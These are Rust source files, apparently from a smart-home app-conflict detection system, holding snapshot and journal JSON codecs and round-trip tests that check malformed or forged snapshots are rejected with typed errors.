        multiple: bool_field(j, "multiple")?,
    })
}

/// Encodes an analysis *without* its rules — the store app's rule file is
/// the single source of truth for those, so a snapshot cannot carry an
/// analysis whose rules disagree with the database entry next to it.
fn analysis_to_json(a: &AppAnalysis) -> Json {
    Json::obj([
        ("name", Json::str(&a.name)),
        ("description", Json::str(&a.description)),
        (
            "inputs",
            Json::Arr(a.inputs.iter().map(input_decl_to_json).collect()),
        ),
        (
            "warnings",
            Json::Arr(a.warnings.iter().map(Json::str).collect()),
        ),
        ("isWebService", Json::Bool(a.is_web_service)),
    ])
}

fn analysis_from_json(j: &Json, rules: Vec<hg_rules::rule::Rule>) -> Result<AppAnalysis, HgError> {
    Ok(AppAnalysis {
        name: str_field(j, "name")?,
        description: str_field(j, "description")?,
        inputs: arr_field(j, "inputs")?
            .iter()
            .map(input_decl_from_json)
            .collect::<Result<_, _>>()?,
        rules,
        warnings: str_arr_field(j, "warnings")?,
        is_web_service: bool_field(j, "isWebService")?,
    })
}

fn extractor_config_to_json(c: &ExtractorConfig) -> Json {
    Json::obj([
        (
            "allowNonstandardDevices",
            Json::Bool(c.allow_nonstandard_devices),
        ),
        (
            "modelUndocumentedApis",
            Json::Bool(c.model_undocumented_apis),
        ),
        ("maxPaths", Json::Num(c.max_paths as i64)),
        ("maxCallDepth", Json::Num(c.max_call_depth as i64)),
        ("loopUnroll", Json::Num(c.loop_unroll as i64)),
    ])
}

fn extractor_config_from_json(j: &Json) -> Result<ExtractorConfig, HgError> {
    Ok(ExtractorConfig {
        allow_nonstandard_devices: bool_field(j, "allowNonstandardDevices")?,
        model_undocumented_apis: bool_field(j, "modelUndocumentedApis")?,
        max_paths: nonneg_field(j, "maxPaths")? as usize,
        max_call_depth: nonneg_field(j, "maxCallDepth")? as usize,
        loop_unroll: nonneg_field(j, "loopUnroll")? as usize,
    })
}

// ----- store state ------------------------------------------------------------

/// Encodes the exported rule-store database (config, apps, rule files,
/// fingerprints).
pub fn store_state_to_json(state: &StoreState) -> Json {
    Json::obj([
        ("config", extractor_config_to_json(&state.config)),
        (
            "apps",
            Json::Arr(
                state
                    .apps
                    .iter()
                    .map(|app| {
                        Json::obj([
                            ("name", Json::str(&app.name)),
                            ("ruleFile", Json::str(&app.rule_file)),
                            (
                                "analysis",
                                app.analysis
                                    .as_deref()
                                    .map(analysis_to_json)
                                    .unwrap_or(Json::Null),
                            ),
                            (
                                "fingerprints",
                                // u64 fingerprints bit-cast through i64: the
                                // codec's number type is i64, and the cast
                                // round-trips exactly.
                                Json::Arr(
                                    app.fingerprints
                                        .iter()
                                        .map(|&fp| Json::Num(fp as i64))
                                        .collect(),
                                ),
                            ),
                        ])
                    })
                    .collect(),
            ),
        ),
    ])
}

/// Decodes a [`store_state_to_json`] document.
pub fn store_state_from_json(j: &Json) -> Result<StoreState, HgError> {
    let mut apps = Vec::new();
    for entry in arr_field(j, "apps")? {
        let name = str_field(entry, "name")?;
        let rule_file = str_field(entry, "ruleFile")?;
        let analysis = match entry.get("analysis") {
            None | Some(Json::Null) => None,
            Some(a) => {
                // The analysis' rules are not serialized: re-parse them
                // from the rule file so snapshot and database agree by
                // construction.
                let rules = rules_from_text(&rule_file)
                    .map_err(|e| snap_err(format!("rule file of `{name}`: {e}")))?;
                Some(Arc::new(analysis_from_json(a, rules)?))
            }
        };
        apps.push(StoreAppState {
            name,
            rule_file,
            analysis,
            fingerprints: arr_field(entry, "fingerprints")?
                .iter()
                .map(|fp| {
                    fp.as_num()
                        .map(|n| n as u64)
                        .ok_or_else(|| snap_err("non-numeric fingerprint"))
                })
                .collect::<Result<_, _>>()?,
        });
    }
    Ok(StoreState {
        config: extractor_config_from_json(
            j.get("config")
                .ok_or_else(|| snap_err("store missing config"))?,
        )?,
        apps,
    })
}

// ----- home state -------------------------------------------------------------

fn unification_to_json(p: UnificationPolicy) -> Json {
    Json::str(match p {
        UnificationPolicy::Auto => "auto",
        UnificationPolicy::ByType => "byType",
    })
}

fn unification_from_json(j: &Json) -> Result<UnificationPolicy, HgError> {
    match j.as_str() {
        Some("auto") => Ok(UnificationPolicy::Auto),
        Some("byType") => Ok(UnificationPolicy::ByType),
        _ => Err(snap_err("unknown unification policy")),
    }
}

/// Encodes one home's exported ground-truth state.
pub fn home_state_to_json(state: &HomeState) -> Json {
    Json::obj([
        (
            "modes",
            Json::Arr(state.modes.iter().map(Json::str).collect()),
        ),
        ("unification", unification_to_json(state.policy)),
        ("chainDepth", Json::Num(state.chain_depth as i64)),
        (
            "apps",
            Json::Arr(state.apps.iter().map(Json::str).collect()),
        ),
        (
            "rules",
            Json::Arr(state.rules.iter().map(rule_to_json).collect()),
        ),
        (
            "bindings",
            Json::Arr(
                state
                    .bindings
                    .iter()
                    .map(|(app, input, device)| {
                        Json::obj([
                            ("app", Json::str(app)),
                            ("input", Json::str(input)),
                            ("device", Json::str(device)),
                        ])
                    })
                    .collect(),
            ),
        ),
        (
            "values",
            Json::Arr(
                state
                    .values
                    .iter()
                    .map(|(app, input, value)| {
                        Json::obj([
                            ("app", Json::str(app)),
                            ("input", Json::str(input)),
                            ("value", value_to_json(value)),
                        ])
                    })
                    .collect(),
            ),
        ),
        (
            "allowed",
            Json::Arr(state.allowed.iter().map(threat_to_json).collect()),
        ),
        ("handling", policy_table_to_json(&state.handling)),
    ])
}

/// Decodes a [`home_state_to_json`] document.
pub fn home_state_from_json(j: &Json) -> Result<HomeState, HgError> {
    let mut bindings = Vec::new();
    for entry in arr_field(j, "bindings")? {
        bindings.push((
            str_field(entry, "app")?,
            str_field(entry, "input")?,
            str_field(entry, "device")?,
        ));
    }
    let mut values = Vec::new();
    for entry in arr_field(j, "values")? {
        values.push((
            str_field(entry, "app")?,
            str_field(entry, "input")?,
            value_from_json(
                entry
                    .get("value")
                    .ok_or_else(|| snap_err("value entry missing value"))?,
            )
            .map_err(snap_err)?,
        ));
    }
    Ok(HomeState {
        modes: str_arr_field(j, "modes")?,
        policy: unification_from_json(
            j.get("unification")
                .ok_or_else(|| snap_err("home missing unification"))?,
        )?,
        chain_depth: nonneg_field(j, "chainDepth")? as usize,
        apps: str_arr_field(j, "apps")?,
        rules: arr_field(j, "rules")?
            .iter()
            .map(|r| rule_from_json(r).map_err(snap_err))
            .collect::<Result<_, _>>()?,
        bindings,
        values,
        allowed: arr_field(j, "allowed")?
            .iter()
            .map(threat_from_json)
            .collect::<Result<_, _>>()?,
        handling: policy_table_from_json(
            j.get("handling")
                .ok_or_else(|| snap_err("home missing handling"))?,
        )?,
    })
}
