//! Snapshot round-trip property tests: fleets in interesting states must
//! survive serialize → parse → restore unchanged, and every malformed
//! input must surface as a typed [`HgError`], never a panic or a
//! half-applied restore.

use hg_persist::{home_from_text, home_to_text, store_from_text, FleetSnapshot};
use hg_service::{Fleet, HgError, RuleStore};
use std::sync::Arc;

const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

#[test]
fn empty_fleet_round_trips() {
    let fleet = Fleet::builder(RuleStore::shared()).shards(8).build();
    let text = fleet.snapshot().unwrap().to_text();
    let restored = Fleet::restore(FleetSnapshot::from_text(&text).unwrap()).unwrap();
    assert!(restored.is_empty());
    assert!(restored.store().is_empty());
    assert_eq!(restored.shard_count(), 8);
    // The empty fleet is fully operational after restore.
    let id = restored.create_home().unwrap();
    assert!(
        restored
            .install_app(id, ON_APP, "OnApp", None)
            .unwrap()
            .installed
    );
}

#[test]
fn mid_rollout_fleet_round_trips_and_pending_reports_stay_confirmable() {
    // A rollout upgrades the clean homes and leaves one home pending: the
    // snapshot is taken in that half-rolled state.
    let fleet = Fleet::new(RuleStore::shared());
    let ids: Vec<_> = (0..4).map(|_| fleet.create_home().unwrap()).collect();
    fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap();
    fleet
        .install_app_forced(ids[1], OFF_APP, "OffApp", None)
        .unwrap();

    let v2 = ON_APP.replace("lamp.on()", "lamp.on(); lamp.off()");
    let rollout = fleet.propagate_upgrade(&v2, "OnApp").unwrap();
    assert_eq!(rollout.upgraded.len(), 3);
    assert_eq!(rollout.pending.len(), 1);
    let (pending_home, pending_report) = rollout.pending.into_iter().next().unwrap();

    let text = fleet.snapshot().unwrap().to_text();
    let restored = Fleet::restore(FleetSnapshot::from_text(&text).unwrap()).unwrap();

    // The pending home still runs v1 after the restart...
    assert_eq!(
        restored
            .with_home(pending_home, |h| {
                h.installed_rules()
                    .iter()
                    .filter(|r| r.id.app == "OnApp")
                    .map(|r| r.actions.len())
                    .sum::<usize>()
            })
            .unwrap(),
        1
    );
    // ...and the outstanding report (persisted by the operator alongside
    // the snapshot, or re-staged) confirms against the restored fleet.
    restored
        .confirm_install(pending_home, pending_report)
        .unwrap();
    assert_eq!(
        restored
            .with_home(pending_home, |h| {
                h.installed_rules()
                    .iter()
                    .filter(|r| r.id.app == "OnApp")
                    .map(|r| r.actions.len())
                    .sum::<usize>()
            })
            .unwrap(),
        2,
        "v2 has two actions"
    );
}

#[test]
fn poisoned_shard_fleet_snapshot_is_a_typed_error() {
    let fleet = Arc::new(Fleet::builder(RuleStore::shared()).shards(2).build());
    let a = fleet.create_home().unwrap();
    let _b = fleet.create_home().unwrap();
    let doomed = fleet.clone();
    std::thread::spawn(move || {
        let _ = doomed.with_home_mut(a, |_| panic!("home handler dies"));
    })
    .join()
    .unwrap_err();

    match fleet.snapshot() {
        Err(HgError::Poisoned(what)) => assert_eq!(what, "fleet shard"),
        other => panic!("expected Poisoned, got {other:?}"),
    }
}

#[test]
fn garbage_bytes_are_parse_errors_not_panics() {
    let corpora: &[&str] = &[
        "",
        "not json at all",
        "{",
        "null",
        "[1,2,3]",
        "{}",
        r#"{"version":1}"#,
        r#"{"version":1,"kind":"fleet"}"#,
        r#"{"version":1,"kind":"fleet","payload":{}}"#,
        r#"{"version":1,"kind":"fleet","payload":{"shards":0,"nextId":0,"store":{"config":{},"apps":[]},"homes":[]}}"#,
        r#"{"version":1,"kind":"home","payload":{}}"#,
        "\u{0}\u{1}\u{2}",
    ];
    for text in corpora {
        assert!(
            matches!(FleetSnapshot::from_text(text), Err(HgError::Snapshot(_))),
            "fleet parse of {text:?} must be a typed error"
        );
        assert!(
            matches!(home_from_text(text), Err(HgError::Snapshot(_))),
            "home parse of {text:?} must be a typed error"
        );
        assert!(
            matches!(store_from_text(text), Err(HgError::Snapshot(_))),
            "store parse of {text:?} must be a typed error"
        );
    }
}

#[test]
fn truncated_snapshots_are_parse_errors() {
    let fleet = Fleet::new(RuleStore::shared());
    let id = fleet.create_home().unwrap();
    fleet.install_app(id, ON_APP, "OnApp", None).unwrap();
    let text = fleet.snapshot().unwrap().to_text();
    // Truncation at every eighth byte: all prefixes must fail cleanly.
    for cut in (0..text.len() - 1).step_by(8) {
        let truncated = &text[..cut];
        assert!(
            matches!(
                FleetSnapshot::from_text(truncated),
                Err(HgError::Snapshot(_))
            ),
            "truncation at byte {cut} must be a typed error"
        );
    }
}

#[test]
fn negative_numeric_fields_are_refused_not_bitcast() {
    // A forged `"nextId":-1` must not bit-cast to u64::MAX — that would
    // slip past restore's forged-id check and let the wrapped counter
    // reissue a restored home's id. Same for a negative defer window
    // (would become an effectively permanent deferral) and home ids.
    let fleet = Fleet::new(RuleStore::shared());
    fleet.create_home().unwrap();
    let text = fleet.snapshot().unwrap().to_text();

    for (field, forged) in [
        ("\"nextId\":1", "\"nextId\":-1"),
        ("\"id\":0", "\"id\":-7"),
        ("\"chainDepth\":4", "\"chainDepth\":-4"),
    ] {
        assert!(text.contains(field), "fixture lost field {field}");
        let doc = text.replacen(field, forged, 1);
        match FleetSnapshot::from_text(&doc) {
            Err(HgError::Snapshot(detail)) => {
                assert!(detail.contains("negative"), "{detail}")
            }
            other => panic!("forged {forged} must be refused, got {other:?}"),
        }
    }

    // Handling-table windows decode through the same guard.
    let home = fleet.export_home(fleet.home_ids()[0]).unwrap();
    let home_text = home_to_text(&home);
    assert!(home_text.contains("\"windowMs\":5000"), "{home_text}");
    let forged = home_text.replacen("\"windowMs\":5000", "\"windowMs\":-1", 1);
    assert!(matches!(
        home_from_text(&forged),
        Err(HgError::Snapshot(detail)) if detail.contains("negative")
    ));
}

#[test]
fn wrong_version_and_kind_are_refused() {
    let fleet = Fleet::new(RuleStore::shared());
    let text = fleet.snapshot().unwrap().to_text();

    let future = text.replacen("\"version\":1", "\"version\":999", 1);
    match FleetSnapshot::from_text(&future) {
        Err(HgError::Snapshot(detail)) => assert!(detail.contains("999"), "{detail}"),
        other => panic!("expected Snapshot error, got {other:?}"),
    }

    // A fleet document is not a home document, even though both parse.
    match home_from_text(&text) {
        Err(HgError::Snapshot(detail)) => assert!(detail.contains("fleet"), "{detail}"),
        other => panic!("expected Snapshot error, got {other:?}"),
    }
}

#[test]
fn rich_session_state_round_trips_field_for_field() {
    use hg_config::ConfigInfo;
    use hg_service::PolicyTable;
    use homeguard_core::Home;

    // A session exercising every serialized field: modes, bindings, user
    // values, an Allowed threat (with solver witness), Priority ranks.
    let store = RuleStore::shared();
    let mut home = Home::builder(store.clone())
        .modes(["Day", "Night"])
        .chain_depth(3)
        .build();
    let cfg = ConfigInfo::new("OnApp")
        .bind_device("m", "motion-1")
        .bind_device("lamp", "lamp-1");
    home.install_app(ON_APP, "OnApp", Some(&cfg)).unwrap();
    let cfg2 = ConfigInfo::new("OffApp")
        .bind_device("m", "motion-1")
        .bind_device("lamp", "lamp-1");
    home.install_app_forced(OFF_APP, "OffApp", Some(&cfg2))
        .unwrap();
    home.set_handling_policy(PolicyTable::default().prioritize([
        hg_rules::rule::RuleId::new("OnApp", 0),
        hg_rules::rule::RuleId::new("OffApp", 0),
    ]));
    assert_eq!(home.allowed().len(), 1);

    let text = home_to_text(&home.export_state());
    let state = home_from_text(&text).unwrap();
    let mut revived = Home::restore_state(store, state);

    assert_eq!(revived.modes(), home.modes());
    assert_eq!(revived.installed_apps(), home.installed_apps());
    assert_eq!(
        revived
            .installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect::<Vec<_>>(),
        home.installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect::<Vec<_>>()
    );
    assert_eq!(revived.allowed(), home.allowed(), "witnesses included");
    assert_eq!(revived.handling_policy(), home.handling_policy());
    assert_eq!(
        revived.mediation_index().len(),
        home.mediation_index().len()
    );
    // A second export of the revived session is byte-identical: the
    // serialization is a fixed point, not an approximation.
    assert_eq!(home_to_text(&revived.export_state()), text);
}

#[test]
fn verdict_cache_is_never_serialized_and_restores_empty() {
    // Warm the fleet-shared verdict cache with real repeated-install
    // traffic, then snapshot. The cache is runtime state: it must leave no
    // trace in the document (the snapshot of a hot cache is byte-identical
    // to the snapshot after dropping it), and a restored fleet starts with
    // an empty cache that refills from live traffic.
    let fleet = Fleet::new(RuleStore::shared());
    let ids: Vec<_> = (0..6).map(|_| fleet.create_home().unwrap()).collect();
    fleet.install_many(&ids, ON_APP, "OnApp", None).unwrap();
    for &id in &ids {
        fleet
            .install_app_forced(id, OFF_APP, "OffApp", None)
            .unwrap();
    }
    let verdicts = fleet.store().verdict_cache();
    assert!(
        !verdicts.is_empty() && verdicts.stats().hits > 0,
        "the grid must actually warm the cache: {:?}",
        verdicts.stats()
    );

    let hot = fleet.snapshot().unwrap().to_text();
    verdicts.clear();
    let cold = fleet.snapshot().unwrap().to_text();
    assert_eq!(hot, cold, "cache state leaked into the snapshot");
    assert!(
        !hot.contains("verdict"),
        "no cache vocabulary may appear in the document"
    );

    let restored = Fleet::restore(FleetSnapshot::from_text(&hot).unwrap()).unwrap();
    let restored_cache = restored.store().verdict_cache();
    assert!(restored_cache.is_empty(), "restored cache must start cold");
    assert_eq!(restored_cache.stats().hits, 0);

    // ...and refills from live traffic: a fresh home repeating the same
    // installs is served by new cache entries, with identical verdicts.
    let fresh = restored.create_home().unwrap();
    restored.install_app(fresh, ON_APP, "OnApp", None).unwrap();
    let report = restored
        .install_app(fresh, OFF_APP, "OffApp", None)
        .unwrap();
    assert!(!report.is_clean());
    assert!(!restored_cache.is_empty());
}
