//! The journal's record vocabulary and its JSON codec.
//!
//! Records are **state deltas**, not replayed commands: an install record
//! carries the confirmed report's mutation data (rules when they differ
//! from the store's current rule file, allowed threats, config URI)
//! because re-running detection at replay time against a store that has
//! since moved on could legitimately produce a different report —
//! `confirm_install` accepts stale reports by design. Replaying a record
//! therefore reproduces the exact state transition the live fleet made,
//! byte for byte.
//!
//! Payloads reuse the snapshot codecs from [`hg_persist::codec`] wholesale
//! — a home state inside a `home_created` record is the same document a
//! fleet snapshot holds. Decoders return
//! [`HgError::Journal`](homeguard_core::HgError) naming the malformed
//! field; garbage is a typed error, never a panic.

use hg_detector::Threat;
use hg_persist::codec::{
    home_state_from_json, home_state_to_json, policy_table_from_json, policy_table_to_json,
    threat_from_json, threat_to_json,
};
use hg_rules::json::{rule_from_json, rule_to_json, Json};
use hg_rules::rule::Rule;
use homeguard_core::{HgError, HomeState, PolicyTable};

/// Journal payload format version, checked on decode.
pub const RECORD_VERSION: i64 = 1;

/// Builds the journal's uniform decode failure.
pub fn journal_err(detail: impl Into<String>) -> HgError {
    HgError::Journal(detail.into())
}

/// One durable fleet lifecycle event.
#[derive(Debug, Clone, PartialEq)]
pub enum JournalRecord {
    /// A home was created; `state` is its ground truth at creation.
    HomeCreated {
        /// Raw home id the fleet assigned.
        id: u64,
        /// Exported state at creation (template defaults + customization).
        state: HomeState,
    },
    /// A batch of template homes was created in one transaction: every id
    /// shares the **one** exported template state, so the record costs a
    /// single state export and append regardless of batch size (the
    /// fast path for standing up large fleets).
    HomesCreated {
        /// Raw home ids the fleet assigned, in creation order.
        ids: Vec<u64>,
        /// The shared template ground truth each home started from.
        state: HomeState,
    },
    /// A home was imported (migration); same shape as creation.
    HomeImported {
        /// Raw home id the fleet assigned.
        id: u64,
        /// The imported ground truth.
        state: HomeState,
    },
    /// A home was removed from the fleet.
    HomeRemoved {
        /// Raw home id.
        id: u64,
    },
    /// An install (or upgrade) was confirmed into a home.
    InstallCommitted {
        /// Raw home id.
        id: u64,
        /// The app name the report confirmed.
        app: String,
        /// The installed app this one replaced, for upgrades.
        replaces: Option<String>,
        /// The report's rules **when they differ** from the store's
        /// current rule file for `app`; `None` means "the store's rules
        /// at replay", which is the common case and keeps records small.
        rules: Option<Vec<Rule>>,
        /// Threats the user allowed by confirming.
        threats: Vec<Threat>,
        /// Configuration-info URI recorded by the confirmation, if any.
        config: Option<String>,
    },
    /// An app was uninstalled from a home.
    UninstallCommitted {
        /// Raw home id.
        id: u64,
        /// The removed app.
        app: String,
    },
    /// A bulk install auto-confirmed cleanly into these homes (one record
    /// per `install_group` call). Rules are always store-derived at
    /// replay — the group commit only batches homes whose reports match
    /// the store's current rule file — and every home shares the group's
    /// one configuration, so the record costs one append regardless of
    /// group size.
    InstallSwept {
        /// The installed app.
        app: String,
        /// Raw ids of homes whose install auto-confirmed clean.
        homes: Vec<u64>,
        /// The group's shared configuration-info URI, if any.
        config: Option<String>,
    },
    /// A clean upgrade sweep landed on these homes (one record per shard).
    UpgradeSwept {
        /// The upgraded app.
        app: String,
        /// Raw ids of homes whose upgrade auto-confirmed.
        homes: Vec<u64>,
    },
    /// A forced uninstall sweep removed the app from these homes.
    UninstallSwept {
        /// The removed app.
        app: String,
        /// Raw ids of homes the app was removed from.
        homes: Vec<u64>,
    },
    /// A home's threat-handling policy table was replaced.
    PolicyChanged {
        /// Raw home id.
        id: u64,
        /// The new table.
        table: PolicyTable,
    },
    /// Configuration info was recorded into a home outside an install.
    ConfigRecorded {
        /// Raw home id.
        id: u64,
        /// The config-info URI (lossless round-trip codec).
        uri: String,
    },
    /// A fresh source landed in the shared rule store.
    StoreIngested {
        /// The app name the analysis declared.
        app: String,
        /// The ingested source text.
        source: String,
        /// Whether this was the name-checked `ingest_as` path.
        as_name: bool,
    },
    /// An app was retired from the shared rule store.
    StoreRetired {
        /// The retired app.
        app: String,
    },
}

impl JournalRecord {
    /// Stable machine-readable operation tag.
    pub fn op(&self) -> &'static str {
        match self {
            JournalRecord::HomeCreated { .. } => "home_created",
            JournalRecord::HomesCreated { .. } => "homes_created",
            JournalRecord::HomeImported { .. } => "home_imported",
            JournalRecord::HomeRemoved { .. } => "home_removed",
            JournalRecord::InstallCommitted { .. } => "install_committed",
            JournalRecord::UninstallCommitted { .. } => "uninstall_committed",
            JournalRecord::InstallSwept { .. } => "install_swept",
            JournalRecord::UpgradeSwept { .. } => "upgrade_swept",
            JournalRecord::UninstallSwept { .. } => "uninstall_swept",
            JournalRecord::PolicyChanged { .. } => "policy_changed",
            JournalRecord::ConfigRecorded { .. } => "config_recorded",
            JournalRecord::StoreIngested { .. } => "store_ingested",
            JournalRecord::StoreRetired { .. } => "store_retired",
        }
    }

    /// Raw ids of homes whose ground truth this record dirties (delta
    /// checkpoint bookkeeping).
    pub fn dirtied_homes(&self) -> Vec<u64> {
        match self {
            JournalRecord::HomeCreated { id, .. }
            | JournalRecord::HomeImported { id, .. }
            | JournalRecord::InstallCommitted { id, .. }
            | JournalRecord::UninstallCommitted { id, .. }
            | JournalRecord::PolicyChanged { id, .. }
            | JournalRecord::ConfigRecorded { id, .. } => vec![*id],
            JournalRecord::InstallSwept { homes, .. }
            | JournalRecord::UpgradeSwept { homes, .. }
            | JournalRecord::UninstallSwept { homes, .. } => homes.clone(),
            JournalRecord::HomesCreated { ids, .. } => ids.clone(),
            JournalRecord::HomeRemoved { .. }
            | JournalRecord::StoreIngested { .. }
            | JournalRecord::StoreRetired { .. } => Vec::new(),
        }
    }

    /// The removed home id, when this record removes one.
    pub fn removed_home(&self) -> Option<u64> {
        match self {
            JournalRecord::HomeRemoved { id } => Some(*id),
            _ => None,
        }
    }

    /// Whether the record mutates the shared rule store.
    pub fn touches_store(&self) -> bool {
        matches!(
            self,
            JournalRecord::StoreIngested { .. } | JournalRecord::StoreRetired { .. }
        )
    }

    /// Encodes the record as one JSON document (a frame payload).
    pub fn to_json(&self) -> Json {
        let mut fields = vec![
            ("v".to_string(), Json::Num(RECORD_VERSION)),
            ("op".to_string(), Json::str(self.op())),
        ];
        match self {
            JournalRecord::HomeCreated { id, state }
            | JournalRecord::HomeImported { id, state } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
                fields.push(("state".into(), home_state_to_json(state)));
            }
            JournalRecord::HomesCreated { ids, state } => {
                fields.push((
                    "ids".into(),
                    Json::Arr(ids.iter().map(|&h| Json::Num(h as i64)).collect()),
                ));
                fields.push(("state".into(), home_state_to_json(state)));
            }
            JournalRecord::HomeRemoved { id } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
            }
            JournalRecord::InstallCommitted {
                id,
                app,
                replaces,
                rules,
                threats,
                config,
            } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
                fields.push(("app".into(), Json::str(app)));
                fields.push((
                    "replaces".into(),
                    replaces.as_deref().map(Json::str).unwrap_or(Json::Null),
                ));
                fields.push((
                    "rules".into(),
                    rules
                        .as_ref()
                        .map(|rs| Json::Arr(rs.iter().map(rule_to_json).collect()))
                        .unwrap_or(Json::Null),
                ));
                fields.push((
                    "threats".into(),
                    Json::Arr(threats.iter().map(threat_to_json).collect()),
                ));
                fields.push((
                    "config".into(),
                    config.as_deref().map(Json::str).unwrap_or(Json::Null),
                ));
            }
            JournalRecord::UninstallCommitted { id, app } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
                fields.push(("app".into(), Json::str(app)));
            }
            JournalRecord::UpgradeSwept { app, homes }
            | JournalRecord::UninstallSwept { app, homes } => {
                fields.push(("app".into(), Json::str(app)));
                fields.push((
                    "homes".into(),
                    Json::Arr(homes.iter().map(|&h| Json::Num(h as i64)).collect()),
                ));
            }
            JournalRecord::InstallSwept { app, homes, config } => {
                fields.push(("app".into(), Json::str(app)));
                fields.push((
                    "homes".into(),
                    Json::Arr(homes.iter().map(|&h| Json::Num(h as i64)).collect()),
                ));
                fields.push((
                    "config".into(),
                    config.as_deref().map(Json::str).unwrap_or(Json::Null),
                ));
            }
            JournalRecord::PolicyChanged { id, table } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
                fields.push(("table".into(), policy_table_to_json(table)));
            }
            JournalRecord::ConfigRecorded { id, uri } => {
                fields.push(("id".into(), Json::Num(*id as i64)));
                fields.push(("uri".into(), Json::str(uri)));
            }
            JournalRecord::StoreIngested {
                app,
                source,
                as_name,
            } => {
                fields.push(("app".into(), Json::str(app)));
                fields.push(("source".into(), Json::str(source)));
                fields.push(("asName".into(), Json::Bool(*as_name)));
            }
            JournalRecord::StoreRetired { app } => {
                fields.push(("app".into(), Json::str(app)));
            }
        }
        Json::Obj(fields.into_iter().collect())
    }

    /// Serializes to the frame payload bytes.
    pub fn to_payload(&self) -> Vec<u8> {
        self.to_json().to_text().into_bytes()
    }

    /// Decodes one frame payload back into a record.
    pub fn from_payload(payload: &[u8]) -> Result<JournalRecord, HgError> {
        let text =
            std::str::from_utf8(payload).map_err(|_| journal_err("record payload is not UTF-8"))?;
        let j = Json::parse(text).map_err(|e| journal_err(format!("record parse: {e}")))?;
        Self::from_json(&j)
    }

    /// Decodes a record document.
    pub fn from_json(j: &Json) -> Result<JournalRecord, HgError> {
        let version = j.get("v").and_then(Json::as_num);
        if version != Some(RECORD_VERSION) {
            return Err(journal_err(format!(
                "unsupported record version {version:?} (expected {RECORD_VERSION})"
            )));
        }
        let id = || nonneg(j, "id").map(|n| n as u64);
        let app = || str_field(j, "app");
        let homes = || u64_array(j, "homes");
        match j.get("op").and_then(Json::as_str) {
            Some("home_created") => Ok(JournalRecord::HomeCreated {
                id: id()?,
                state: state_field(j)?,
            }),
            Some("homes_created") => Ok(JournalRecord::HomesCreated {
                ids: u64_array(j, "ids")?,
                state: state_field(j)?,
            }),
            Some("home_imported") => Ok(JournalRecord::HomeImported {
                id: id()?,
                state: state_field(j)?,
            }),
            Some("home_removed") => Ok(JournalRecord::HomeRemoved { id: id()? }),
            Some("install_committed") => Ok(JournalRecord::InstallCommitted {
                id: id()?,
                app: app()?,
                replaces: opt_str(j, "replaces")?,
                rules: match j.get("rules") {
                    None | Some(Json::Null) => None,
                    Some(Json::Arr(items)) => Some(
                        items
                            .iter()
                            .map(|r| rule_from_json(r).map_err(journal_err))
                            .collect::<Result<_, _>>()?,
                    ),
                    Some(_) => return Err(journal_err("`rules` is neither null nor an array")),
                },
                threats: j
                    .get("threats")
                    .and_then(Json::as_arr)
                    .ok_or_else(|| journal_err("missing array field `threats`"))?
                    .iter()
                    .map(|t| threat_from_json(t).map_err(as_journal))
                    .collect::<Result<_, _>>()?,
                config: opt_str(j, "config")?,
            }),
            Some("uninstall_committed") => Ok(JournalRecord::UninstallCommitted {
                id: id()?,
                app: app()?,
            }),
            Some("install_swept") => Ok(JournalRecord::InstallSwept {
                app: app()?,
                homes: homes()?,
                config: opt_str(j, "config")?,
            }),
            Some("upgrade_swept") => Ok(JournalRecord::UpgradeSwept {
                app: app()?,
                homes: homes()?,
            }),
            Some("uninstall_swept") => Ok(JournalRecord::UninstallSwept {
                app: app()?,
                homes: homes()?,
            }),
            Some("policy_changed") => Ok(JournalRecord::PolicyChanged {
                id: id()?,
                table: policy_table_from_json(
                    j.get("table")
                        .ok_or_else(|| journal_err("missing field `table`"))?,
                )
                .map_err(as_journal)?,
            }),
            Some("config_recorded") => Ok(JournalRecord::ConfigRecorded {
                id: id()?,
                uri: str_field(j, "uri")?,
            }),
            Some("store_ingested") => Ok(JournalRecord::StoreIngested {
                app: app()?,
                source: str_field(j, "source")?,
                as_name: match j.get("asName") {
                    Some(Json::Bool(b)) => *b,
                    _ => return Err(journal_err("missing boolean field `asName`")),
                },
            }),
            Some("store_retired") => Ok(JournalRecord::StoreRetired { app: app()? }),
            Some(other) => Err(journal_err(format!("unknown record op `{other}`"))),
            None => Err(journal_err("record missing `op`")),
        }
    }
}

/// Re-brands a snapshot-codec failure as a journal failure: the document
/// that failed to decode lives in the journal, so the journal's error
/// variant is the honest one.
fn as_journal(e: HgError) -> HgError {
    journal_err(e.to_string())
}

fn str_field(j: &Json, field: &str) -> Result<String, HgError> {
    j.get(field)
        .and_then(Json::as_str)
        .map(str::to_string)
        .ok_or_else(|| journal_err(format!("missing string field `{field}`")))
}

fn opt_str(j: &Json, field: &str) -> Result<Option<String>, HgError> {
    match j.get(field) {
        None | Some(Json::Null) => Ok(None),
        Some(s) => Ok(Some(s.as_str().map(str::to_string).ok_or_else(|| {
            journal_err(format!("`{field}` is neither null nor a string"))
        })?)),
    }
}

fn u64_array(j: &Json, field: &str) -> Result<Vec<u64>, HgError> {
    j.get(field)
        .and_then(Json::as_arr)
        .ok_or_else(|| journal_err(format!("missing array field `{field}`")))?
        .iter()
        .map(|h| {
            h.as_num()
                .filter(|&n| n >= 0)
                .map(|n| n as u64)
                .ok_or_else(|| journal_err(format!("bad home id in `{field}`")))
        })
        .collect()
}

fn nonneg(j: &Json, field: &str) -> Result<i64, HgError> {
    let n = j
        .get(field)
        .and_then(Json::as_num)
        .ok_or_else(|| journal_err(format!("missing numeric field `{field}`")))?;
    if n < 0 {
        return Err(journal_err(format!("negative `{field}`: {n}")));
    }
    Ok(n)
}

fn state_field(j: &Json) -> Result<HomeState, HgError> {
    home_state_from_json(
        j.get("state")
            .ok_or_else(|| journal_err("missing field `state`"))?,
    )
    .map_err(as_journal)
}

#[cfg(test)]
mod tests {
    use super::*;
